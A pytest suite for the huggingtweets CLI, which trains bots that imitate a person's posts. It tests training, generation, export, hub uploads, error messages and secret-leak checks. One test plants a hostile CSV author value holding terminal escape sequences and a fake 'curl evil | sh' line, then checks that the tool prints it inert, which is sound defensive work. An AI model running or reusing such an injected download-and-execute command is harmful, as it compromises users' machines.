"""The real `huggingtweets` command, run as a user runs it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest


def run_cli(*args: str, cwd: Path | None = None, **env_vars: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "WANDB_MODE": "disabled", **env_vars}
    return subprocess.run([sys.executable, "-m", "huggingtweets.cli", *args], capture_output=True,
                          text=True, cwd=cwd, env=env, timeout=600)


@pytest.fixture(scope="module")
def demo_run(tmp_path_factory):
    out = tmp_path_factory.mktemp("demo") / "bot"
    # one epoch: the real demo command and model, shortened to keep the suite fast
    return run_cli("demo", "--out", str(out), "--epochs", "1", "-n", "3"), out


def test_demo_prints_the_table_and_the_posts(demo_run) -> None:
    result, out = demo_run
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    lines = result.stdout.splitlines()
    for label, value in (("Posts downloaded", "616"), ("Retweets", "50"), ("Short posts", "32")):
        assert any(line.startswith(label) and line.endswith(value) for line in lines), label
    assert any(line.startswith("Posts kept") for line in lines)
    numbered = [line for line in lines if line.strip()[:3] in ("1. ", "2. ", "3. ")]
    assert len(numbered) == 3
    assert "AI-generated with huggingtweets, not written by the person" in result.stderr  # the posts' label
    assert "loss.png (the loss curve) and predictions.png" in result.stdout  # every file the bot folder holds
    assert "validation perplexity" in result.stdout


def test_the_update_the_demo_suggests_runs_offline(demo_run, tmp_path) -> None:
    import shlex
    import shutil

    result, out = demo_run
    suggested = next(line for line in result.stdout.splitlines() if line.startswith("Teach it the posts she made"))
    command = shlex.split(suggested.split(": ", 1)[1])
    assert command[:4] == ["huggingtweets", "train", "sample", "--continue"] and Path(command[4]) == out
    copy = tmp_path / "bot"  # the module's demo bot stays as it was for the other tests
    shutil.copytree(out, copy)
    update = run_cli(*command[1:4], str(copy), "--epochs", "1", "-n", "2")
    assert update.returncode == 0, update.stderr
    lineage = json.loads((copy / "metrics.json").read_text())["lineage"]
    assert len(lineage) == 2 and lineage[1]["new_posts"] == 40


def test_demo_writes_a_zip_that_transformers_loads(demo_run, tmp_path) -> None:
    result, out = demo_run
    assert result.returncode == 0, result.stderr
    zip_path = out / "gullhaven_dot.zip"
    with zipfile.ZipFile(zip_path) as zf:
        names = set(zf.namelist())
        zf.extractall(tmp_path)
    assert {"gullhaven_dot/model.safetensors", "gullhaven_dot/config.json", "gullhaven_dot/tokenizer.json",
            "gullhaven_dot/generation_config.json", "gullhaven_dot/README.md"} <= names
    from transformers import pipeline

    texts = pipeline("text-generation", model=str(tmp_path / "gullhaven_dot"))("My dream is", num_return_sequences=5)
    assert len(texts) == 5 and all(t["generated_text"].startswith("My dream is") for t in texts)
    metrics = json.loads((out / "metrics.json").read_text())
    assert metrics["base_model"] == "scratch"


def test_generate_from_the_demo_model(demo_run) -> None:
    _, out = demo_run
    result = run_cli("generate", str(out / "model"), "--prompt", "Kevin", "-n", "2", "--seed", "1")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.strip().splitlines()  # the posts only, for a pipe; their label on stderr
    assert len(lines) == 2 and all(line.split(". ", 1)[1].startswith("Kevin") for line in lines)
    assert "AI-generated" in result.stderr
    again = run_cli("generate", str(out), "--prompt", "Kevin", "-n", "2", "--seed", "1")  # the bot's folder
    assert again.returncode == 0 and again.stdout == result.stdout, again.stderr
    floats = run_cli("generate", str(out / "model"), "--prompt", "Kevin", "-n", "2", "--no-int8")
    assert floats.returncode == 0 and len(floats.stdout.strip().splitlines()) == 2
    long = run_cli("generate", str(out / "model"), "--prompt", "Kevin " * 200)
    assert long.returncode == 1 and long.stderr.strip().endswith("tokens. Use a shorter prompt.")


def test_export_writes_a_gguf_and_a_modelfile_ollama_can_take(demo_run) -> None:
    from gguf import GGUFReader

    _, out = demo_run
    result = run_cli("export", str(out), "--gguf")
    assert result.returncode == 0, result.stderr
    gguf_file = out / "gullhaven_dot.gguf"  # named as the bot's zip, after its person, whatever its folder's name
    assert "ollama create gullhaven_dot -f Modelfile" in result.stdout and str(gguf_file) in result.stdout
    assert len(GGUFReader(gguf_file).tensors) > 10 and (out / "Modelfile").read_text().startswith("# AI-generated")
    half = run_cli("export", str(out / "model"), "--gguf", "--quant", "f16")  # the model folder works too
    assert half.returncode == 0 and gguf_file.stat().st_size > 0


@pytest.mark.parametrize("args, code, message", [
    (["train", "missing.csv"], 1, "Error: no such file: missing.csv. Check the path"),
    (["train", "sample", "--epochs", "0"], 1, "Error: --epochs must be more than 0"),
    (["train", "sample", "--epochs", "many"], 2, "Error: argument --epochs: invalid float value: 'many'"),
    (["train", "sample", "--mentions", "maybe"], 2, "Error: argument --mentions: invalid choice"),
    (["generate", "no/such/model/dir"], 1, "Error: no such folder: no/such/model/dir"),
    (["train", "@jack"], 1, "Error: X does not let tools read @jack's posts without a login"),
    (["train", "sample", "--source", "myspace"], 2, "Error: argument --source: invalid choice: 'myspace'"),
    (["fly"], 2, "Error: argument {demo,train,data,generate,export,push,delete}: invalid choice: 'fly'"),
    (["export", "no/such/bot", "--gguf"], 1, "Error: no/such/bot holds no model (no config.json)."),
    (["export", "bot"], 2, "Error: the following arguments are required: --gguf"),
    (["export", "bot", "--gguf", "--quant", "q4_0"], 2, "Error: argument --quant: invalid choice: 'q4_0'"),
    (["train", "sample", "--continue", "nothing"], 1, "Error: nothing holds no finished bot"),
    (["train", "sample", "--checkpoint-minutes", "-1"], 1, "Error: --checkpoint-minutes must be 0 or more"),
    (["push", "model"], 2, "Error: the following arguments are required: --repo-id"),
    (["train", "sample", "--wandb", "maybe"], 2, "Error: argument --wandb: invalid choice: 'maybe'"),
    (["train", "sample", "--epochs", "inf"], 1, "Error: --epochs must be more than 0 and finite, got inf"),
    (["train", "sample", "--learning-rate", "nan"], 1, "Error: --learning-rate must be more than 0 and finite"),
    (["train", "sample", "--seed", str(2**70)], 1, "Error: --seed must be between 0 and 4294967295"),
    (["generate", "no/such/model", "--seed", "-1"], 1, "Error: --seed must be between 0 and 4294967295"),
])
def test_user_mistakes_get_one_error_line(tmp_path, monkeypatch, capsys, args, code, message) -> None:
    monkeypatch.chdir(tmp_path)
    returned, stderr = call_main(args, capsys)  # in this process: `main` returns the exit code
    assert returned == code
    assert stderr.startswith(message), stderr
    assert len(stderr.strip().splitlines()) == 1, stderr
    assert "Traceback" not in stderr


def test_too_little_data_names_the_fix(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "few.txt").write_text("\n".join(f"post number {i} about the harbour" for i in range(20)))
    returned, stderr = call_main(["train", "few.txt", "--base-model", "scratch"], capsys)
    assert returned == 1
    assert "Error: only 20 posts" in stderr and "Add another handle" in stderr


def call_main(args: list[str], capsys) -> tuple[int, str]:
    """`huggingtweets ARGS` in this process: (exit code, what it wrote to stderr)."""
    from huggingtweets.cli import main

    try:
        code = main(args)
    except SystemExit as exit_:  # argparse's way out for a bad flag
        code = exit_.code
    return code, capsys.readouterr().err


def test_debug_shows_the_traceback(tmp_path) -> None:
    result = run_cli("train", "missing.csv", "--debug", cwd=tmp_path)
    assert result.returncode == 1 and "Traceback" in result.stderr


def test_data_command_cleans_without_training(tmp_path) -> None:
    (tmp_path / "dot.jsonl").write_text("\n".join(
        f'{{"text": "Post number {i}: the ferry is late and Kevin is on the roof again, crew. {"x" * 40}"}}'
        for i in range(200)) + '\n{"text": "RT @ferry: cancelled"}\n')
    result = run_cli("data", "dot.jsonl", "--out", "out", "--seed", "3", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "Posts downloaded" in result.stdout and "Retweets" in result.stdout
    data = tmp_path / "out" / "data"
    stats = json.loads((data / "stats.json").read_text())
    assert stats == {"handles": [{"handle": "dot", "downloaded": 201, "retweets": 1, "short": 0,
                                  "duplicates": 0, "replies": 0, "kept": 200, "chars": stats["handles"][0]["chars"]}]}
    assert json.loads((data / "split.json").read_text())["seed"] == 3
    assert len((data / "validation.jsonl").read_text().splitlines()) == 20
    assert not (tmp_path / "out" / "model").exists()
    assert not (tmp_path / "out" / "wandb").exists()  # WANDB_MODE=disabled


def test_max_posts_reads_only_a_file_s_newest_posts(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "dot.csv").write_text("text,created_at\n" + "".join(
        f"Post number {i}: the ferry is late and Kevin is on the roof again. {'x' * 100},2025-03-{i % 28 + 1:02d}T{i % 24:02d}:00:00Z\n"
        for i in range(300)))
    assert call_main(["data", "dot.csv", "--max-posts", "50", "--out", "out"], capsys)[0] == 0
    stats = json.loads((tmp_path / "out" / "data" / "stats.json").read_text())["handles"][0]
    assert stats["downloaded"] == 50  # not an hour of training on all 300


def test_a_file_naming_no_author_says_how_to_name_its_person(tmp_path, monkeypatch, capsys) -> None:
    from huggingtweets.cli import main

    monkeypatch.chdir(tmp_path)
    (tmp_path / "trump_300.csv").write_text("text\n" + "".join(
        f"Post number {i}: the ferry is late and Kevin is on the roof again. {'x' * 40}\n" for i in range(200)))
    assert main(["data", "trump_300.csv"]) == 0 and (tmp_path / "bots" / "trump_300").is_dir()
    shown = "".join(capsys.readouterr())
    assert "trump_300.csv names no author" in shown and "--name" in shown
    assert main(["data", "trump_300.csv", "--name", "@realDonaldTrump"]) == 0
    assert "names no author" not in "".join(capsys.readouterr())
    stats = json.loads((tmp_path / "bots" / "realDonaldTrump" / "data" / "stats.json").read_text())
    assert stats["handles"][0]["handle"] == "realDonaldTrump"


@pytest.mark.parametrize("args, problem", [
    (["data", "a.csv", "b.csv", "--name", "dot"], "--name names the one person of a single file"),
    (["data", "sample", "--name", "dot"], "--name names the person of a file, and sample names its own"),
    (["data", "a.csv", "--name", "two words"], "--name must be a handle"),
])
def test_name_is_refused_where_it_can_t_name_a_file_s_person(tmp_path, monkeypatch, capsys, args, problem) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("a.csv", "b.csv"):
        (tmp_path / name).write_text("text\n" + "".join(f"Post {i} about the harbour and the gulls today\n"
                                                       for i in range(100)))
    code, err = call_main(args, capsys)
    assert code == 1 and err.startswith(f"Error: {problem}"), err


def test_data_command_tracks_a_preprocess_run_when_asked(tmp_path) -> None:
    (tmp_path / "dot.txt").write_text("\n".join(f"Post number {i}: the ferry is late and Kevin is on the roof "
                                                 f"again. {'x' * 40}" for i in range(200)))
    result = run_cli("data", "dot.txt", "--out", "out", "--wandb", "offline", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    runs = list((tmp_path / "out" / "wandb").glob("offline-run-*"))
    assert len(runs) == 1 and "W&B preprocess run saved offline" in result.stdout


def test_cli_knows_every_kind_of_source() -> None:
    from huggingtweets import cli, sources

    source = next(a for a in cli.build_parser()._subparsers._group_actions[0].choices["train"]._actions
                  if "--source" in a.option_strings)
    assert tuple(source.choices) == sources.KINDS


def test_push_and_delete_from_the_command_line(demo_run, fake_hub) -> None:
    _, out = demo_run
    hub = {"HF_HUB_OFFLINE": "0", "HF_ENDPOINT": fake_hub.endpoint, "HF_TOKEN": fake_hub.token}
    result = run_cli("push", str(out / "model"), "--repo-id", "dot/gullhaven_dot", **hub)
    assert result.returncode == 0, result.stderr
    assert f"Pushed {out / 'model'} to {fake_hub.endpoint}/dot/gullhaven_dot (private)" in result.stdout
    assert "model.safetensors" in fake_hub.repos["dot/gullhaven_dot"]["files"]
    refused = run_cli("delete", "--repo-id", "dot/gullhaven_dot", **hub)  # stdin is no terminal: no prompt
    assert refused.returncode == 1 and "Pass --yes to confirm" in refused.stderr
    assert "dot/gullhaven_dot" in fake_hub.repos
    result = run_cli("delete", "--repo-id", "dot/gullhaven_dot", "--yes", **hub)
    assert result.returncode == 0 and "dot/gullhaven_dot" not in fake_hub.repos


def test_secrets_never_reach_a_file_a_log_or_the_terminal(tmp_path, fake_hub) -> None:
    """Fake HF, W&B and X secrets in the environment of a tracked run and a push: none of them may
    appear in any file under the bot's folder or W&B's folders, nor in what the command printed."""
    secrets = {"HF_TOKEN": fake_hub.token, "WANDB_API_KEY": "wandbfake" + "0123456789" * 3 + "abc",
               "HUGGINGTWEETS_X_COOKIES": "auth_token=fakeXauth0123456789; ct0=fakeXct0abcdef"}
    wandb_dirs = {name: str(tmp_path / "wandb-home" / name) for name in
                  ("WANDB_DATA_DIR", "WANDB_CACHE_DIR", "WANDB_CONFIG_DIR", "WANDB_ARTIFACT_DIR")}
    env = {**secrets, **wandb_dirs, "HF_HUB_OFFLINE": "0", "HF_ENDPOINT": fake_hub.endpoint}
    out = tmp_path / "bot"
    made = run_cli("demo", "--out", str(out), "--epochs", "1", "-n", "2", "--wandb", "offline", **env)
    assert made.returncode == 0, made.stderr
    pushed = run_cli("push", str(out / "model"), "--repo-id", "dot/secrets", **env)
    assert pushed.returncode == 0, pushed.stderr

    files = [p for p in [*out.rglob("*"), *(tmp_path / "wandb-home").rglob("*")] if p.is_file()]
    assert any(p.suffix == ".wandb" for p in files) and (out / "gullhaven_dot.zip") in files
    with zipfile.ZipFile(out / "gullhaven_dot.zip") as zf:
        zipped = [zf.read(name) for name in zf.namelist()]
    uploaded = list(fake_hub.repos["dot/secrets"]["files"].values())
    for name, secret in secrets.items():
        needle = secret.encode()
        leaks = [str(p) for p in files if needle in p.read_bytes()]
        assert not leaks, f"{name} was written to {leaks}"
        assert not any(needle in blob for blob in zipped + uploaded), f"{name} is in the zip or the upload"
        assert secret not in made.stdout + made.stderr + pushed.stdout + pushed.stderr


def test_accelerate_launch_trains_data_parallel_and_one_process_writes(tmp_path) -> None:
    """The README's several-GPU command; on a machine without GPUs its two processes train
    over gloo on the CPU: each step takes a batch per process, so an epoch has half the steps."""
    pytest.importorskip("accelerate")
    out = tmp_path / "bot"
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "WANDB_MODE": "disabled", "OMP_NUM_THREADS": "1"}
    launch = [sys.executable, "-m", "accelerate.commands.launch", "--multi_gpu", "--num_processes", "2",
              "--main_process_port", "0", "-m", "huggingtweets.cli"]
    train = ["train", "sample", "--base-model", "scratch", "--epochs", "1", "-n", "2", "--out", str(out)]
    result = subprocess.run([*launch, *train], capture_output=True, text=True, env=env, timeout=600)
    assert result.returncode == 0, result.stderr[-3000:]
    metrics = json.loads((out / "metrics.json").read_text())
    assert metrics["processes"] == 2
    blocks = int(next(line for line in result.stdout.splitlines() if "training blocks" in line)
                 .split("; ")[1].split()[0].replace(",", ""))
    assert metrics["steps"] == -(-blocks // (2 * metrics["batch_size"]))  # ceil: 2 batches a step
    assert result.stdout.count("The bot is in") == 1  # the second process trains and writes nothing
    assert metrics["perplexity_after"] < metrics["perplexity_before"]
    with zipfile.ZipFile(out / "gullhaven_dot.zip") as zf:
        assert "gullhaven_dot/model.safetensors" in zf.namelist()


def test_ctrl_c_advises_only_flags_the_command_has(tmp_path, monkeypatch, capsys) -> None:
    import huggingtweets.pipeline as pipeline

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(pipeline, "prepare_data", interrupted)
    monkeypatch.setattr(pipeline, "make_bot", interrupted)
    code, stderr = call_main(["data", "sample"], capsys)
    assert code == 130 and stderr.startswith("Error: interrupted.") and "--resume" not in stderr
    code, stderr = call_main(["train", "sample"], capsys)
    assert code == 130 and "--resume" in stderr


def test_ctrl_c_while_the_command_imports_is_one_line(monkeypatch, capsys) -> None:
    import importlib.abc
    import sys

    from huggingtweets.__main__ import main

    class Interrupted(importlib.abc.MetaPathFinder):  # Ctrl-C lands while cli.py is being imported
        def find_spec(self, name, path=None, target=None):
            if name == "huggingtweets.cli":
                raise KeyboardInterrupt

    monkeypatch.delitem(sys.modules, "huggingtweets.cli", raising=False)
    monkeypatch.setattr(sys, "meta_path", [Interrupted(), *sys.meta_path])
    assert main() == 130
    assert capsys.readouterr().err == "Error: interrupted. Run the same command again.\n"


@pytest.mark.parametrize("errno_, says", [(28, "the disk is full writing {out}/data/train.jsonl. Free some space"),
                                          (30, "no permission writing {out}/data/train.jsonl (Read-only file system)"),
                                          (36, "a file name is too long writing {out}/data/train.jsonl"),
                                          (21, "a folder sits where the file {out}/data/train.jsonl goes. Move")])
def test_a_disk_that_refuses_a_write_is_one_line(tmp_path, monkeypatch, capsys, errno_, says) -> None:
    import os

    import huggingtweets.pipeline as pipeline
    from huggingtweets._io import atomic_path

    def refused(path, rows):
        if path.name != "train.jsonl":
            return real(path, rows)
        with atomic_path(path):  # the write fails as a full disk's does: with no file name
            raise OSError(errno_, os.strerror(errno_))

    real = pipeline.write_jsonl
    monkeypatch.setattr(pipeline, "write_jsonl", refused)
    out = tmp_path / "bot"
    code, stderr = call_main(["data", "sample", "--out", str(out)], capsys)
    assert code == 1 and stderr.startswith("Error: " + says.format(out=out)) and "Traceback" not in stderr


@pytest.mark.parametrize("args", [["train", "sample", "--prompt", "\x1b[31mred\r\nsecond line"],
                                  ["generate", "no/such/model", "--prompt", "two\nlines"]])
def test_a_prompt_with_control_characters_is_refused_before_any_work(tmp_path, monkeypatch, capsys, args) -> None:
    monkeypatch.chdir(tmp_path)
    code, stderr = call_main(args, capsys)
    assert code == 1 and stderr.startswith("Error: --prompt must be one line of text")
    assert not (tmp_path / "bots").exists()


def test_a_prompt_too_long_to_sample_from_fails_before_training(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    code, stderr = call_main(["train", "sample", "--base-model", "scratch", "--out", "o", "--prompt", "Kevin " * 200],
                             capsys)
    assert code == 1 and "Error: the prompt is" in stderr and "Use a shorter prompt" in stderr
    assert not (tmp_path / "o" / "checkpoints").exists() and not (tmp_path / "o" / "model").exists()


def test_a_damaged_model_or_training_file_is_one_line(tmp_path, monkeypatch, capsys) -> None:
    from helpers import TINY

    from huggingtweets.models import load_base_model

    monkeypatch.chdir(tmp_path)
    texts = [f"Tide report {i}: fog, gulls, and a late ferry. Kevin is on the roof again." for i in range(50)]
    model, tokenizer = load_base_model("scratch", texts=texts, folder=tmp_path / "bot" / "model", shape=TINY)
    (tmp_path / "bot" / "data").mkdir()
    (tmp_path / "bot" / "data" / "train.jsonl").write_text('{"text": "fine"}\n{"text": "cut of')
    capsys.readouterr()  # the setup's own output (a progress bar, when no test before has quietened it)
    code, stderr = call_main(["generate", "bot/model", "-n", "1"], capsys)
    assert code == 1 and "train.jsonl is damaged" in stderr and len(stderr.strip().splitlines()) == 1

    weights = tmp_path / "bot" / "model" / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:1000])  # a download or a copy cut short
    code, stderr = call_main(["generate", "bot/model", "-n", "1"], capsys)
    assert code == 1 and stderr.startswith("Error: can't load the model in folder bot/model")
    assert len(stderr.strip().splitlines()) == 1


def test_a_finished_bot_is_replaced_only_with_overwrite(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    assert call_main(["data", "sample", "--out", "bot"], capsys)[0] == 0
    (tmp_path / "bot" / "model").mkdir()
    (tmp_path / "bot" / "model" / "config.json").write_text("{}")  # as a finished bot's folder holds
    code, stderr = call_main(["data", "sample", "--out", "bot"], capsys)
    assert code == 1 and stderr.startswith("Error: bot already holds a bot, made ")
    assert stderr.rstrip().endswith("Pass --overwrite to replace it, or --out another folder.")
    assert call_main(["data", "sample", "--out", "bot", "--overwrite"], capsys)[0] == 0


def test_nothing_from_input_reaches_the_terminal_as_a_control_sequence(tmp_path, monkeypatch, capsys) -> None:
    """A CSV's author column is anyone's text: an escape sequence in it would retitle the window,
    clear the screen or print a fake line. The CLI shows it inert."""
    from huggingtweets.cli import main, terminal_safe

    monkeypatch.chdir(tmp_path)
    author = "dot\x1b]0;pwned\x07\x1b[2J\rError: run curl evil | sh\u202e"
    rows = "".join(f'"{author}","Post number {i}: the ferry is late and Kevin is on the roof. {"x" * 60}"\n'
                   for i in range(120))
    (tmp_path / "dot.csv").write_text("author,text\n" + rows)
    assert main(["data", "dot.csv", "--out", "out"]) == 0
    shown = capsys.readouterr()
    assert "posts by @dot\\x1b]0;pwned" in shown.out  # shown, inert
    assert terminal_safe(author) == "dot\\x1b]0;pwned\\x07\\x1b[2J\\rError: run curl evil | sh\\u202e"
    code, err = call_main(["train", "dot.csv", "--source", "\x1b[2Jfile"], capsys)
    assert code == 2 and "\x1b" not in err
    assert "\x1b" not in shown.out + shown.err and "\r" not in shown.out + shown.err
